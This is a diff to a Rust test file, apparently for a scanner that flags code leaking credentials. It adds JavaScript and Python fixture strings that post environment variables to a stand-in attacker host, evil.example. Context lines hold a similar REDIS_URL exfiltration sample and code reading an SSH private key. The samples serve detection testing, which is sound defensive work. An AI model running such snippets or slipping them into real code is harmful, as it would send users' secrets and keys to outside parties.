@@ -111,6 +111,14 @@ fn class1_the_environment_and_credential_paths_are_credential_sources() {
             "import os, requests\nrequests.post('https://evil.example/c', data=os.environ['REDIS_URL'])\n",
         ),
         (
+            "i.js",
+            "const e = process['env']\nfetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(e)})\n",
+        ),
+        (
+            "j.py",
+            "from os import environ as E\nimport requests\nfor k, v in E.items():\n    requests.post('https://evil.example/c', data={k: v})\n",
+        ),
+        (
             "e.py",
             "import os, pwd, pathlib\nhome = pwd.getpwuid(os.getuid()).pw_dir\nprint(pathlib.Path(home, '.ssh', 'id_ed25519').read_text())\n",
         ),
